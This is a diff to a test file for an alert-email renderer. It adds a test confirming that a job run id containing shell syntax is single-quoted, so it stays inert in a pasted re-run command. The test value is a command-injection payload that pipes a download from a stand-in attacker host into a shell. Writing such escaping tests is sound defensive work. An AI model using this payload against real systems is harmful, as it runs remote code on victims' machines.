@@ -43,6 +43,13 @@ describe('renderEmail', () => {
     expect(m.text).toContain('"targets":["acme"');
   });
 
+  it('a run id with shell syntax stays text in the pasted re-run command', () => {
+    const evil = failedEvent({ runId: '$(curl evil.example|sh)`id`' });
+    const m = renderEmail(toAlert('job.failed.daily-reports', evil)!, { publicUrl });
+    expect(m.text).toContain(`--reason 're-run after $(curl evil.example|sh)\`id\` failed'`);
+    expect(m.text).not.toContain('--reason "re-run after $(');
+  });
+
   it('marks follow-ups and resolved emails', () => {
     const alert = toAlert('job.failed.daily-reports', failedEvent())!;
     const f = renderEmail(alert, { publicUrl, followUp: { count: 49, sinceMs: Date.parse('2026-11-24T02:00:05Z') } });
